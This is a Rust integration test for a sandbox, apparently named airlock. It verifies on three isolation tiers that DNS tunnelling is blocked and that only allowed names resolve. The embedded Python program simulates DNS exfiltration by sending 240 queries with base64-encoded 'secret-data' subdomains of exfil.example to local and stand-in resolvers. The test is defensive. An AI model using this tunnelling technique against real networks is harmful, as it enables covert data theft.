//! Issue 15, DNS under policy, on every tier: the sandbox's only resolver is airlock's,
//! which answers allowed names only and sends nothing the program wrote onto a network.
//!
//! The test's namespace (tests/egressutil) gets a fake upstream DNS server on 10.9.9.9:53
//! that records every name it is asked; airlock runs with a resolv.conf naming it (bound
//! in airlock's own mount namespace, never the host's). A DNS tunnel (hundreds of unique
//! subdomains of an unlisted domain, to airlock's resolver and to "another" resolver)
//! must reach nothing; an allowed name resolves through it and is then reachable by a
//! program that ignores the proxy variables.

mod common;
mod egressutil;

use egressutil::{Net, PRELUDE, egress};
use serde_json::Value;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// The fake upstream resolver: `python3 SCRIPT LOG READY`: every name asked is appended
/// to LOG; A queries get 10.9.9.9, others an empty answer.
const DNS_SERVER: &str = r#"
import socket, struct, sys
log, ready = sys.argv[1:3]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.9.9.9", 53))
open(ready, "w").close()
while True:
    q, peer = s.recvfrom(4096)
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
        i += 1 + q[i]
    qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
    with open(log, "a") as f:
        f.write(".".join(labels) + "\n")
    question = q[12:i + 5]
    if qtype == 1:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 30, 4) + socket.inet_aton("10.9.9.9")
        head = q[:2] + b"\x81\x80" + struct.pack("!HHHH", 1, 1, 0, 0)
    else:
        answer = b""
        head = q[:2] + b"\x81\x80" + struct.pack("!HHHH", 1, 0, 0, 0)
    s.sendto(head + question + answer, peer)
"#;

/// What the program does.
const PROGRAM: &str = r#"
import random, struct
def query(server, name, qtype=16):
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    try:
        u.sendto(q, (server, 53))
        a, _ = u.recvfrom(4096)
        return a[3] & 0x0f
    except OSError as e:
        return errno.errorcode.get(e.errno, "timeout")
    finally:
        u.close()
# A tunnel: unique subdomains carrying data, as TXT and A queries, to airlock's resolver
# and to some other address's port 53.
codes = set()
for i in range(120):
    codes.add(query("127.0.0.1", f"c2VjcmV0LWRhdGE{i:03d}.exfil.example"))
    codes.add(query("198.51.100.53", f"ZXhmaWx0cmF0ZQ{i:03d}.exfil.example", 1))
out["tunnel_rcodes"] = sorted(str(c) for c in codes)
# An allowed name: resolved (through the upstream), then reached directly.
out["allowed"] = socket.gethostbyname("allowed.example")
s = socket.create_connection(("allowed.example", 80), timeout=10)
s.sendall(b"GET /hello HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n")
out["fetched"] = split(read_all(s))[2]
out["txt_allowed"] = query("127.0.0.1", "allowed.example")
"#;

struct Upstream {
    child: Child,
    log: std::path::PathBuf,
}

impl Upstream {
    fn start(net: &Net) -> Upstream {
        let log = net.dir.path().join("dns.log");
        let ready = net.dir.path().join("dns.ready");
        let child = net
            .nsenter(egressutil::python3())
            .args(["-c", DNS_SERVER])
            .arg(&log)
            .arg(&ready)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        egressutil::poll(Duration::from_secs(20), || ready.exists().then_some(()))
            .expect("the fake resolver did not start");
        Upstream { child, log }
    }

    fn asked(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn tunnel_reaches_nothing(tier: &[&str]) {
    let net = Net::start();
    let upstream = Upstream::start(&net);
    let resolv = net.dir.path().join("resolv.conf");
    std::fs::write(&resolv, "nameserver 10.9.9.9\n").unwrap();
    let program = format!("{PRELUDE}\n{PROGRAM}\nprint(json.dumps(out))\n");
    // airlock's host side resolves with this namespace's resolver and hosts file, both
    // bound in a mount namespace of its own.
    let out = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg(r#"r=$1; h=$2; n=$3; shift 3; mount --bind "$r" /etc/resolv.conf && mount --bind "$h" /etc/hosts && exec nsenter --net="$n" -- "$@""#)
        .arg("sh")
        .arg(&resolv)
        .arg(net.hosts_file())
        .arg(net.path())
        .arg(env!("CARGO_BIN_EXE_airlock"))
        .arg("run")
        .args(tier)
        .args(["--net", "proxy", "--allow", "allowed.example", "--allow-cidr", "10.9.9.9/32"])
        .args(["--timeout", "120s", "--json", "--", "python3", "-c", &program])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(v["exit_code"], 0, "{v:#}");
    let o: Value = serde_json::from_str(v["stdout"].as_str().unwrap().lines().last().unwrap()).unwrap();
    // Every tunnel query: NXDOMAIN (3), from airlock's resolver, wherever it was sent.
    assert_eq!(o["tunnel_rcodes"], serde_json::json!(["3"]), "{o:#}");
    assert_eq!(o["allowed"], "10.9.9.9", "{o:#}");
    assert_eq!(o["fetched"], "hello from allowed\n", "{o:#}");
    assert_eq!(
        o["txt_allowed"], 0,
        "an allowed name's other records: an empty answer"
    );
    // The upstream saw the allowed name only: not one byte of the tunnel.
    let asked = upstream.asked();
    assert!(
        !asked.is_empty(),
        "the allowed name was resolved through the upstream"
    );
    assert!(asked.iter().all(|n| n == "allowed.example"), "{asked:?}");
    // Every query is in the log, denied ones with the reason.
    let log = egress(&v);
    let dns: Vec<&Value> = log.iter().filter(|e| e["kind"] == "dns").collect();
    let denied = dns.iter().filter(|e| e["allowed"] == false).count();
    assert!(denied >= 240, "{denied} denied DNS entries: {log:#?}");
    assert!(
        dns.iter()
            .any(|e| e["host"] == "allowed.example" && e["allowed"] == true),
        "{log:#?}"
    );
    assert!(
        log.iter()
            .any(|e| e["kind"] == "redirected" && e["host"] == "allowed.example" && e["allowed"] == true),
        "{log:#?}"
    );
    net.assert_no_forbidden_connections();
}

#[test]
fn namespaces_dns_tunnel_reaches_nothing() {
    tunnel_reaches_nothing(&[]);
}

#[test]
fn gvisor_dns_tunnel_reaches_nothing() {
    tunnel_reaches_nothing(&["--isolation", "gvisor"]);
}

#[test]
fn microvm_dns_tunnel_reaches_nothing() {
    tunnel_reaches_nothing(&["--isolation", "microvm"]);
}
